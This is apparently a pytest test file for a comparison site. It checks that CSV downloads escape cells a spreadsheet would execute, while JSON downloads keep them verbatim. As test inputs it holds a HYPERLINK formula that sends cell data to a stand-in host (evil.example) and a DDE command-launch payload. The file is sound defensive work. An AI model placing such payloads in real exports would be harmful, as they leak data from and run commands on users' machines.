"""Downloads are safe to open in a spreadsheet, and exact for programs."""

import csv
import io
import json

from platforms.models import Cell, ComparisonPage

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_json_keeps_them(seeded, client):
    page = ComparisonPage.objects.get(permalink="/Partnerships/")
    table = page.tables.first()
    cell = Cell.objects.filter(capability__table=table).select_related("row", "capability").first()
    cell.note = FORMULA
    cell.save()
    capability, row = cell.capability, cell.row
    capability.name = "+SUM(A1:A9)"
    capability.save()
    row.label = "@cmd|' /C calc'!A0"
    row.save()
    url = f"/data/tables/Partnerships/{table.slug}.csv"
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    every_value = [value for row in rows for value in row]
    assert f"'{FORMULA}" in every_value
    assert not [v for v in every_value if v[:1] in {"=", "+", "-", "@", "\t", "\r"}], every_value
    assert any(value.startswith("'+SUM(A1:A9)") for value in rows[0])
    assert any(value.startswith("'@cmd") for value in every_value)
    data = json.loads(client.get("/data/all.json").content)
    assert FORMULA in strings_in(data)


def strings_in(value):
    if isinstance(value, dict):
        return [s for item in value.values() for s in strings_in(item)]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return [value] if isinstance(value, str) else []
